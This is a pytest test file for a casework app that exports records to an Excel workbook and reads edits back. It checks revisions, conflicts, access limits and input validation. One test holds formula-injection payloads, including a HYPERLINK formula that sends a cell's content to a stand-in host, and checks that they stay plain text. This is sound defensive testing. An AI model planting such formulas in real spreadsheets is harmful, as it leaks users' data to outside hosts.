"""The workbook: everything a coordinator may see, edited in a spreadsheet program, given back, seen first, then applied."""

from __future__ import annotations

import io
from collections.abc import Callable, Mapping, Sequence
from datetime import date, datetime
from pathlib import Path
from shutil import copyfile
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from casework import sample
from casework.forms.drafts import revise
from casework.forms.entries import submit
from casework.keeping.sheet.spreadsheet import NO_SUCH_ROW
from casework.keeping.workbook import applying, changes, settings_rows
from casework.keeping.workbook.changes import WorkbookPreview
from casework.keeping.workbook.layout import standing, tabs
from casework.keeping.workbook.new_rows import OF_NO_NEW_FORM
from casework.keeping.workbook.reading import NoWorkbook, read
from casework.keeping.workbook.writing import NOT_HERE, workbook
from casework.reading.office import Office
from casework.sample import REFERENCES
from record.apart import FileRefused
from record.entry import Entry, Filed
from record.forms.review import Review
from record.forms.start import Start
from record.forms.weekly_report import WeeklyReport
from record.person import Person, Role
from record.tables import QUESTIONS, TABLES
from store.choose import open_store
from store.contract import SavedEntry, TableRow
from tests.casework.at_work import ABROAD, REFERENCE, an_office, placed, type_in
from tests.casework.at_work import TARIQ as ELSEWHERE
from tests.record.a_case import reported

TARIQ = Person("Tariq Mensah", Role.COORDINATOR, "", "900", ("Vale",))
NOOR = Person("Noor Salim", Role.ADMINISTRATOR, "", "900")
EVE = Person("Eve Adair", Role.COORDINATOR, "", "900", ("Nowhere",))
AMINA = Person("Amina Yusuf", Role.SCHOOL, "900001", "900")
HOME = "900001"


def today() -> date:
    return date(2026, 12, 10)


Edit = Callable[[Any], None]
WENT_WELL = "What went well, and how can it happen again?"
MEETING, WEEKLY, SCHOOLS_SHEET, LA_RECORD = "Meeting record", "Weekly report", "Schools", "LA record"
ABOUT = "What is this about?"


@pytest.fixture(scope="module")
def one_of_the_sample(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The sample's tables and the longest of its cases, with forms of most kinds: what is asked of a row is asked of each."""
    folder = tmp_path_factory.mktemp("sample")
    whole, one = (open_store(f"sqlite:///{folder / name}.sqlite") for name in ("whole", "one"))
    sample.fill(Office(whole, today))
    for table in TABLES:
        for row in whole.table(table):
            one.put(row)
    for entry in whole.entries(REFERENCES["week_three_sister"]):
        one.save(entry)
    whole.close()
    one.close()
    return folder / "one.sqlite"


@pytest.fixture
def office(tmp_path: Path, one_of_the_sample: Path) -> Office:
    """A case whose forms are all whole: a correction of one can be submitted."""
    copyfile(one_of_the_sample, tmp_path / "store.sqlite")
    return Office(open_store(f"sqlite:///{tmp_path / 'store.sqlite'}"), today)


def first(office: Office, kind: type[Entry]) -> Filed:
    """The form in the first row of its sheet."""
    return next(each.filed for each in standing(office, TARIQ) if isinstance(each.filed.entry, kind))


def reference_of(office: Office, filed: Filed) -> str:
    return next(each.reference for each in office.cases.values() if filed in each.filed)


def edited(content: bytes, edit: Edit) -> bytes:
    """The workbook after somebody had their hands on it."""
    book = load_workbook(io.BytesIO(content))
    edit(book)
    made = io.BytesIO()
    book.save(made)
    return made.getvalue()


def at(sheet: Worksheet, heading: str, row: int = 2) -> str:
    """The cell under a heading."""
    for cell in sheet[1]:
        if cell.value == heading:
            return f"{cell.column_letter}{row}"
    raise AssertionError(f"no heading {heading}")


def typed(sheet: str, heading: str, value: object, row: int = 2) -> Edit:
    def edit(book: Workbook) -> None:
        book[sheet][at(book[sheet], heading, row)] = value

    return edit


def given_back(office: Office, edit: Edit, who: Person = TARIQ) -> WorkbookPreview:
    content = workbook(office, who, only_live=False)
    return changes.compare(office, who, read(edited(content, edit), office.authority.own))


def nothing(book: object) -> None:
    """Opened, and saved again."""


def test_it_has_the_tabs_of_the_spreadsheet_with_headings_frozen_and_drop_downs(office: Office) -> None:
    book = load_workbook(io.BytesIO(workbook(office, TARIQ, only_live=False)))

    assert book.sheetnames == [*tabs(), "Choices"]
    assert all(book[title].freeze_panes == "B2" for title in tabs())
    meeting = book[MEETING]
    assert isinstance(meeting[at(meeting, "Start date")].value, datetime)
    assert any(
        at(meeting, "What was decided?")[:-1] in str(each.sqref) for each in meeting.data_validations.dataValidation
    )
    assert "Access" not in book.sheetnames


def test_saved_again_untouched_it_changes_nothing(office: Office) -> None:
    found = given_back(office, nothing)

    assert (found.revised, found.troubles) == ((), ())
    assert found.rows > 10


def test_a_corrected_cell_becomes_a_revision_that_says_who_made_it(office: Office) -> None:
    report = first(office, WeeklyReport)
    reference = reference_of(office, report)
    found = given_back(office, typed(WEEKLY, WENT_WELL, "Came to every lesson & smiled 😀"))

    assert [(each.reference, each.title) for each in found.revised] == [(reference, WeeklyReport.title)]
    assert [each.after for each in found.revised[0].changes] == ["Came to every lesson & smiled 😀"]
    applied = applying.apply(office, TARIQ, found.revised, "Corrected in the workbook.")
    assert [each.why_not for each in applied] == [""]
    latest = next(each for each in office.cases[reference].filed if each.entry_id == report.entry_id)
    assert isinstance(latest.entry, WeeklyReport)
    assert latest.entry.went_well == "Came to every lesson & smiled 😀"
    assert latest.revision == report.revision + 1
    assert office.store.entries(reference)[-1].saved_by == TARIQ.name


def test_applied_twice_it_is_saved_once(office: Office) -> None:
    before = len(office.store.entries())
    found = given_back(office, typed(WEEKLY, WENT_WELL, "Maths"))
    for _ in range(3):
        applying.apply(office, TARIQ, found.revised, "why")

    assert len(office.store.entries()) == before + 1


def test_each_cell_that_cannot_be_is_named_with_what_to_write(office: Office) -> None:
    cells = (
        ("Date of the meeting", "Friday", "day, month and year"),
        ("Start date", "1/2/2026", "Is this 1 February 2026 or 2 January 2026"),
        ("Last day", "=TODAY()", "This is a formula"),
        ("What was decided?", "maybe", "Choose one of"),
    )
    edits = [typed(MEETING, heading, value) for heading, value, _ in cells]
    found = given_back(office, lambda book: [edit(book) for edit in edits])

    assert found.revised == ()
    assert sorted(each.where.partition(",")[0] for each in found.troubles) == [MEETING] * len(cells)
    for _, value, sentence in cells:
        assert len([each for each in found.troubles if sentence in each.should]) == 1, value


@pytest.mark.parametrize(
    ("heading", "sentence"),
    [("Save id", "did not download this row"), ("Entry id", "fills in this column automatically")],
)
def test_a_cell_that_the_app_writes_is_not_changed(office: Office, heading: str, sentence: str) -> None:
    found = given_back(office, typed(MEETING, heading, "another"))

    assert found.revised == ()
    assert len(found.troubles) == 1
    assert sentence in found.troubles[0].should
    assert found.troubles[0].where.startswith(f"{MEETING}, ")


def test_rules_speak_before_anything_is_applied_and_stop_what_they_must(office: Office) -> None:
    before = len(office.store.entries()), office.store.drafts("")
    found = given_back(office, typed(MEETING, "Last day", datetime(2020, 9, 1)))

    assert found.revised and found.revised[0].check.problems
    applied = applying.apply(office, TARIQ, found.revised, "why")
    assert applied[0].why_not
    assert (len(office.store.entries()), office.store.drafts("")) == before, "nothing half done is left behind"


def test_what_was_corrected_in_the_app_meanwhile_is_a_conflict(office: Office) -> None:
    content = edited(workbook(office, TARIQ, only_live=False), typed(WEEKLY, WENT_WELL, "From the workbook"))
    report = first(office, WeeklyReport)
    paper = revise(office, TARIQ, reference_of(office, report), report.entry_id)
    saved = submit(office, TARIQ, type_in(office, TARIQ, paper, {"went_well": "From the app"}))
    assert isinstance(saved, SavedEntry)

    found = changes.compare(office, TARIQ, read(content))
    assert [each.conflicts for each in found.revised] == [(WENT_WELL,)]
    untouched = changes.compare(office, TARIQ, read(workbook(office, TARIQ, only_live=False)))
    assert untouched.revised == ()


def test_an_older_workbook_that_changed_something_else_conflicts_with_nothing(office: Office) -> None:
    content = edited(workbook(office, TARIQ, only_live=False), typed(WEEKLY, "Contact with the parents", "Rang home."))
    report = first(office, WeeklyReport)
    reference = reference_of(office, report)
    paper = revise(office, TARIQ, reference, report.entry_id)
    submit(office, TARIQ, type_in(office, TARIQ, paper, {"went_well": "From the app"}))
    found = changes.compare(office, TARIQ, read(content))

    assert [(each.conflicts, [one.after for one in each.changes]) for each in found.revised] == [((), ["Rang home."])]
    applying.apply(office, TARIQ, found.revised, "why")
    now = next(each.entry for each in office.cases[reference].filed if each.entry_id == report.entry_id)
    assert isinstance(now, WeeklyReport)
    assert (now.went_well, now.parent_contact) == ("From the app", "Rang home.")


def test_a_form_that_somebody_is_correcting_is_left_alone(office: Office) -> None:
    report = first(office, WeeklyReport)
    revise(office, TARIQ, reference_of(office, report), report.entry_id)
    found = given_back(office, typed(WEEKLY, WENT_WELL, "Maths"))

    assert "is correcting this form" in applying.apply(office, TARIQ, found.revised)[0].why_not


def test_somebody_elses_cases_are_neither_in_it_nor_changed_by_it(office: Office) -> None:
    content = workbook(office, TARIQ, only_live=False)
    assert len(list(standing(office, EVE))) == 0 < len(list(standing(office, TARIQ)))
    assert load_workbook(io.BytesIO(workbook(office, EVE, only_live=False)))[WEEKLY].max_row == 1
    found = changes.compare(office, EVE, read(edited(content, typed(WEEKLY, WENT_WELL, "Mine now"))))

    assert found.revised == ()
    assert {each.should for each in found.troubles} == {changes.NO_SUCH_FORM}


def test_a_settings_row_is_checked_as_in_the_app_and_applied(office: Office) -> None:
    content = workbook(office, NOOR, only_live=True)
    row = 2
    good = read(edited(content, typed(SCHOOLS_SHEET, "Head", "Ms A. <Rahman>", row)))
    bad = read(edited(content, typed(SCHOOLS_SHEET, "Phone", "ask", row)))

    found, troubles = settings_rows.compare(office, NOOR, good)
    assert troubles == [] and [each.changes for each in found] == [(("head", "Mr T. Okafor", "Ms A. <Rahman>"),)]
    assert settings_rows.apply(office, NOOR, found) == []
    assert office.authority.school(HOME).head == "Ms A. <Rahman>"
    assert "telephone number" in settings_rows.compare(office, NOOR, bad)[0][0].faults[0]
    assert settings_rows.compare(office, AMINA, bad)[0] == []


def test_a_school_may_be_added(office: Office) -> None:
    def add(book: Workbook) -> None:
        sheet = book[SCHOOLS_SHEET]
        last = sheet.max_row + 1
        for heading, value in (("URN", 900099), ("Name", "Larch School"), ("La", "900")):
            sheet[at(sheet, heading, last)] = value

    found, _ = settings_rows.compare(office, NOOR, read(edited(workbook(office, NOOR, only_live=True), add)))
    assert settings_rows.apply(office, NOOR, found) == []
    assert office.authority.school("900099").name == "Larch School"


def test_texts_that_a_workbook_cannot_hold_stay_as_they_are(tmp_path: Path) -> None:
    office = an_office(tmp_path, *placed(), reported(date(2026, 9, 14), went_well="=1+1", pupil_words="x" * 35_000))
    book = load_workbook(io.BytesIO(workbook(office, ELSEWHERE, only_live=False)))
    sheet = book[WEEKLY]

    assert sheet[at(sheet, WENT_WELL)].value == "=1+1"
    assert sheet[at(sheet, WENT_WELL)].data_type == "s"
    assert given_back(office, nothing, ELSEWHERE).revised == ()
    assert NOT_HERE not in str(office.cases[REFERENCE].filed)


def test_nothing_of_an_own_question_is_a_formula_in_anybodys_workbook(office: Office) -> None:
    live = '=HYPERLINK("https://elsewhere.example/?"&A2)'
    asked = {"form": "Start", "label": live, "hint": live, "type": "choice", "choices": f"{live}\n+1+1\n@a\nno"}
    office.store.put(TableRow(QUESTIONS, "since", asked, office.now(), NOOR.name))
    book = load_workbook(io.BytesIO(workbook(office, TARIQ, only_live=False)))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]

    named = {cell.value: cell.data_type for cell in cells if cell.value in (f"{live} [since]", live, "+1+1", "@a")}
    assert named == {f"{live} [since]": "s", live: "s", "+1+1": "s", "@a": "s"}
    assert [cell.value for cell in cells if cell.data_type == "f"] == []


def test_an_own_question_has_its_column_there_and_back(office: Office) -> None:
    asked = {"form": "Start", "label": "Ready since", "type": "date"}
    office.store.put(TableRow(QUESTIONS, "since", asked, office.now(), TARIQ.name))
    heading = "Ready since [since]"

    found = given_back(office, typed("Start", heading, date(2026, 9, 7)))
    assert [(each.question, each.before, each.after) for each in found.revised[0].changes] == [
        (heading, "", "7 Sep 2026")
    ]
    assert [each.why_not for each in applying.apply(office, TARIQ, found.revised, "It was told on the telephone.")] == [
        ""
    ]
    kept = office.cases[found.revised[0].reference].last(Start)
    assert kept and kept.model_dump()["local_since"] == date(2026, 9, 7)

    content = workbook(office, TARIQ, only_live=False)
    office.store.put(TableRow(QUESTIONS, "since", {}, office.now(), TARIQ.name))
    after = changes.compare(office, TARIQ, read(edited(content, nothing), office.authority.own))
    assert (after.revised, after.troubles) == ((), ())


@pytest.mark.parametrize("content", [b"", b"hello", b"PK\x03\x04", b"a,b\n1,2\n"])
def test_something_else_is_refused(content: bytes) -> None:
    with pytest.raises(FileRefused, match="not an Excel workbook"):
        read(content)


def test_another_workbook_and_one_without_headings_are_told_apart(office: Office) -> None:
    other = io.BytesIO()
    Workbook().save(other)
    with pytest.raises(NoWorkbook, match="has none of the app’s sheets"):
        read(other.getvalue())

    def behead(book: Workbook) -> None:
        book[MEETING].delete_rows(1)

    assert "headings are gone" in given_back(office, behead).troubles[0].should


def test_sorted_inserted_and_moved_rows_and_columns_change_nothing(office: Office) -> None:
    def mess(book: Workbook) -> None:
        sheet = book[WEEKLY]
        sheet.insert_rows(1, 3)
        sheet["A1"] = "My notes"
        sheet.insert_cols(2)
        book[MEETING].append(["a note of mine"])

    found = given_back(office, mess)
    assert found.revised == ()
    assert [each.should for each in found.troubles] == [NO_SUCH_ROW]


@pytest.fixture
def small(tmp_path: Path) -> Office:
    """One case, placed, whose forms say little."""
    return an_office(tmp_path, *placed())


def row_typed(sheet: str, cells: Mapping[str, object]) -> Edit:
    """A row typed below the others, as a person does."""

    def edit(book: Workbook) -> None:
        of = book[sheet]
        last = of.max_row + 1
        for heading, value in cells.items():
            of[at(of, heading, last)] = value

    return edit


def a_record(**instead: object) -> Mapping[str, object]:
    """A whole row of the authority's own record of a live case."""
    said = {"Reference": REFERENCE, ABOUT: "told of the start", "Date": "3 September 2026", "Officer": "Tariq & Co 😀"}
    return {**said, **instead}


def test_a_row_typed_below_the_others_is_a_new_form_of_its_case_taken_once(small: Office) -> None:
    row = a_record()
    content = edited(workbook(small, ELSEWHERE, only_live=False), row_typed(LA_RECORD, row))
    found = changes.compare(small, ELSEWHERE, read(content))
    assert [(each.title, each.reference, each.is_new, each.check.is_ready) for each in found.revised] == [
        (LA_RECORD, row["Reference"], True, True)
    ]
    assert [each.after for each in found.revised[0].changes] == [
        "told of the start",
        "3 September 2026",
        "Tariq & Co 😀",
    ]

    before = len(small.store.entries())
    for _ in range(2):
        assert [each.why_not for each in applying.apply(small, ELSEWHERE, found.revised)] == [""]
    saved = small.store.entries(str(row["Reference"]))[-1]
    assert len(small.store.entries()) == before + 1
    assert (saved.kind, saved.saved_by, saved.saved_for, saved.revision) == ("la_record", ELSEWHERE.name, "", 1)
    assert saved.answers == {"about": "told of the start", "recorded_on": "2026-09-03", "officer": "Tariq & Co 😀"}
    assert changes.compare(small, ELSEWHERE, read(content)).revised == (), "given back again it is the same row"


def test_a_new_row_is_judged_and_stopped_like_any_form(small: Office) -> None:
    before = len(small.store.entries()), small.store.drafts("")
    found = given_back(small, row_typed(LA_RECORD, a_record(**{ABOUT: None})), ELSEWHERE)

    assert [each.is_new for each in found.revised] == [True]
    assert "Choose an answer" in found.revised[0].check.problems[0].sentence
    assert applying.apply(small, ELSEWHERE, found.revised)[0].why_not
    assert (len(small.store.entries()), small.store.drafts("")) == before


def test_each_new_row_that_cannot_be_taken_is_named(small: Office) -> None:
    rows: Sequence[tuple[Mapping[str, object], str]] = (
        ({"Reference": "MM-0000-0000"}, NO_SUCH_ROW),
        ({"Reference": None}, NO_SUCH_ROW),
        ({"Date": "Friday"}, "Write the date as day, month and year, for example 14/9/2026"),
        ({"Date": "=TODAY()"}, changes.FORMULA),
    )
    typed_rows = [row_typed(LA_RECORD, a_record(**instead)) for instead, _ in rows]
    found = given_back(small, lambda book: [edit(book) for edit in typed_rows], ELSEWHERE)

    assert found.revised == ()
    assert [each.should for each in found.troubles] == [sentence for _, sentence in rows]


def test_nobody_types_a_row_into_a_case_they_do_not_see(small: Office) -> None:
    row = a_record()
    content = edited(workbook(small, ABROAD, only_live=False), row_typed(LA_RECORD, row))

    assert [each.should for each in changes.compare(small, ABROAD, read(content)).troubles] == [NO_SUCH_ROW]


def test_a_new_row_for_a_day_that_is_told_already_is_not_ticked_by_itself(small: Office) -> None:
    content = edited(workbook(small, ELSEWHERE, only_live=False), row_typed(LA_RECORD, a_record()))
    applying.apply(small, ELSEWHERE, changes.compare(small, ELSEWHERE, read(content)).revised)
    found = given_back(small, row_typed(LA_RECORD, a_record(Officer="Somebody else")), ELSEWHERE)

    assert [each.alike for each in found.revised] == ["This case already has a form of this kind for 3 September 2026."]


def test_rows_of_a_list_go_with_the_one_new_row_of_their_form(small: Office) -> None:
    row = a_record()
    person = {"Reference": row["Reference"], "Name": "Mrs J. Adeyemi", "Role": "parent", "Came?": "came"}

    def both(book: Workbook) -> None:
        row_typed("Review", {"Reference": row["Reference"], "Date": "18 September 2026"})(book)
        row_typed("Review – people", person)(book)

    found = given_back(small, both, ELSEWHERE)
    assert [each.title for each in found.revised] == ["Review"]
    reading = found.revised[0].check.reading.entry
    assert isinstance(reading, Review) and [each.name for each in reading.people] == ["Mrs J. Adeyemi"]
    alone = given_back(small, row_typed("Review – people", person), ELSEWHERE)
    assert [each.should for each in alone.troubles] == [OF_NO_NEW_FORM]


def test_a_row_of_a_form_that_a_case_has_once_corrects_it(small: Office) -> None:
    typed_row = {"Reference": REFERENCE, "Medical needs": "Asthma"}
    found = given_back(small, row_typed("Referral", typed_row), ELSEWHERE)

    assert [(each.title, each.is_new, [one.after for one in each.changes]) for each in found.revised] == [
        ("Referral", False, ["Asthma"])
    ]
